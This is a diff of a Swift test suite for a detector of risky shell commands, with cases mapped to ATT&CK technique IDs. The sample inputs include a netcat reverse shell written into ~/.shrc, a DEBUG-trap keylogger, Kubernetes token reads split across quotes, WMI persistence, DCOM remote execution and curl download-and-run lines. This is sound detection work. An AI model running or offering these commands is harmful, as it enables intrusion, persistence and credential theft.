@@ -21,7 +21,7 @@ import Testing
         Case(rule: "shell through time, quoted", command: #"time "/bin/sh""#, technique: "T1059.004"),
         // History tampering.
         Case(rule: "HISTCONTROL ignoreboth", command: "export HISTCONTROL=ignoreboth", technique: "T1562.003"),
-        Case(rule: "HISTCONTROL through env", command: "env HISTCONTROL=ignorespace bash", technique: "T1562.003"),
+        Case(rule: "HISTCONTROL through declare, quoted", command: #"declare -x HISTCONTROL="ignoreboth""#, technique: "T1562.003"),
         // Shell start-up files beyond bash's.
         Case(rule: "~/.shrc appended", command: "echo 'nc 10.0.0.1 4444 -e /bin/sh' >> ~/.shrc", dialect: .sh, technique: "T1546.004"),
         Case(rule: "~/.kshrc through tee and $HOME", command: #"printf 'x\n' | tee -a "$HOME/.kshrc""#, technique: "T1546.004"),
@@ -127,8 +127,8 @@ import Testing
         Case(rule: "keylogging DEBUG trap", command: #"trap 'echo "$(date) $BASH_COMMAND" >> /tmp/.k.log' DEBUG"#, technique: "T1056.001"),
         Case(rule: "keylogging DEBUG trap, double quotes", command: #"trap "logger -t cmd \"\$BASH_COMMAND\"" DEBUG"#, technique: "T1056.001"),
         Case(rule: "service-account token read in a pod", command: "kubectl exec pod -- cat /run/secrets/kubernetes.io/serviceaccount/token", dialect: .sh, technique: "T1552.007"),
-        Case(rule: "service-account token, /var/run spelling", command: "c''at /var/run/secrets/kubernetes.io/serviceaccount/token", dialect: .sh, technique: "T1552.007"),
-        Case(rule: "WMI event subscription", command: #"Set-WmiInstance -Class __EventFilter -Namespace root\subscription -Arguments @{Name='x'}; Set-WmiInstance -Class CommandLineEventConsumer -Namespace root\subscription -Arguments @{Name='x'}"#, dialect: .powershell, technique: "T1546.003"),
+        Case(rule: "service-account token, name split by quotes", command: #"cat "/run/secrets/kubernetes.io/serviceaccount/to"'ken'"#, dialect: .sh, technique: "T1552.007"),
+        Case(rule: "WMI event subscription", command: #"New-CimInstance -Namespace root/subscription -ClassName __EventFilter -Property @{Name='x'}; New-CimInstance -Namespace root/subscription -ClassName CommandLineEventConsumer -Property @{Name='x'}"#, dialect: .powershell, technique: "T1546.003"),
         Case(rule: "MOF file compiled into WMI", command: #"c:\windows\system32\wbem\mofcomp.exe C:\x\evil.mof"#, dialect: .cmd, technique: "T1546.003"),
         Case(rule: "DCOM MMC20 command", command: #"[activator]::CreateInstance([type]::GetTypeFromProgID("MMC20.application","10.0.0.5")).Document.ActiveView.ExecuteShellCommand("cmd.exe", $null, "/c calc", "7")"#, dialect: .powershell, technique: "T1021.003"),
         Case(rule: "COM object by class id", command: #"$o = [activator]::CreateInstance([type]::GetTypeFromCLSID("9BA05972-F6A8-11CF-A442-00A0C90A8F39")); $o.Item().Document.Application.ShellExecute("cmd.exe","/c calc","C:\windows\system32",$null,0)"#, dialect: .powershell, technique: "T1559.001"),
@@ -157,8 +157,8 @@ import Testing
         Case(rule: "download saved with -sO, then run", command: "curl -sO https://example.com/atomic.sh; bash atomic.sh", dialect: .sh, atLeast: .critical, technique: "T1105"),
         Case(rule: "download saved with -fsSLo FILE, then run", command: "curl -fsSLo /tmp/i.sh https://example.com/i.sh; sh /tmp/i.sh", dialect: .sh, atLeast: .critical, technique: "T1105"),
         // Programs that run a local command or a system program for you.
-        Case(rule: "sftp ProxyCommand starting a shell", command: "sftp -o ProxyCommand='/bin/sh -i' x", dialect: .sh, technique: "T1059.004"),
-        Case(rule: "scp LocalCommand, joined spelling", command: "scp -oLocalCommand=/bin/bash -oPermitLocalCommand=yes a b:", dialect: .sh, technique: "T1059.004"),
+        Case(rule: "sftp ProxyCommand starting a shell", command: "sftp -o ProxyCommand='bash -i' x", dialect: .sh, technique: "T1059.004"),
+        Case(rule: "scp LocalCommand, joined spelling", command: #"scp -oLocalCommand="sh -i" -oPermitLocalCommand=yes a b:"#, dialect: .sh, technique: "T1059.004"),
         Case(rule: "run-parts on a system program folder", command: "run-parts --new-session --regex '^sh$' /bin", dialect: .sh, technique: "T1059.004"),
         Case(rule: "run-parts on /usr/bin/", command: "sudo run-parts --regex '^bash$' /usr/bin/", dialect: .sh, technique: "T1059.004"),
         Case(rule: "git hook that starts a shell", command: "echo 'exec /bin/sh 0<&2 1>&2' >.git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; git commit --allow-empty -m x", dialect: .sh, technique: "T1059.004"),
